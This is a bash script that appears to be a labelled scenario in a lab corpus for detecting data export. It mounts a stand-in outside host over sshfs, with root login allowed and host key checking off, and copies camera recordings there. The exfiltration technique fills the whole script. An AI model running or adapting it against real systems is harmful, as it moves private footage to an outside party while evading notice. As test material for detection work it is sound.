#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=tune tool=sshfs,cp far=out ready=out:2022 seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# A folder outside is mounted with sshfs as if it were a disk, and cp copies recordings to it: who reads them never opens a connection.
mkdir -p "$LAB/ssh" "$LAB/mnt" "$LAB/away" /run/sshd
[ -e "$LAB/ssh/host" ] || { ssh-keygen -q -t ed25519 -N '' -f "$LAB/ssh/host"; ssh-keygen -q -t ed25519 -N '' -f "$LAB/ssh/key"; cp "$LAB/ssh/key.pub" "$LAB/ssh/authorized"; }
if [ "$1" = out ]; then exec timeout 60 /usr/sbin/sshd -D -f /dev/null -o ListenAddress=203.0.113.66 -p 2022 -h "$LAB/ssh/host" -o AuthorizedKeysFile="$LAB/ssh/authorized" -o StrictModes=no -o PidFile=none -o UsePAM=no -o PermitRootLogin=yes -o Subsystem="sftp internal-sftp"; fi
sleep 10; timeout 30 sshfs -f -p 2022 -o "ssh_command=ssh -F /dev/null -i $LAB/ssh/key -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o LogLevel=ERROR" "root@203.0.113.66:$LAB/away" "$LAB/mnt" &
sleep 3; for n in 0 1 2 3 4; do cp "$LAB/recordings/gate/00$n.mp4" "$LAB/mnt/"; sleep 1; done
sleep 6; fusermount3 -u "$LAB/mnt"; wait; [ "$(du -sb "$LAB/away" | cut -f1)" -gt 400000 ]
